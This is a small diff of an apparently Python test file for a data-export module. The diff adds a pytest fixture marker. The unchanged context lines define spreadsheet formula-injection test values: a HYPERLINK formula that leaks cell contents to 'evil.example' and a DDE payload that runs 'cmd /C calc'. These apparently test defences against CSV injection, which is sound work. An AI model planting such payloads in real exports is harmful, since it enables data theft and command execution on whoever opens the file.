@@ -21,6 +21,8 @@ from exports.tables import TABLES
 
 from .labels import annotate
 
+pytestmark = pytest.mark.usefixtures("analytics_worker")
+
 MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DOMAIN = "@SUM(1)"
 DOC_ID = "-2+3+cmd|' /C calc'!A0"
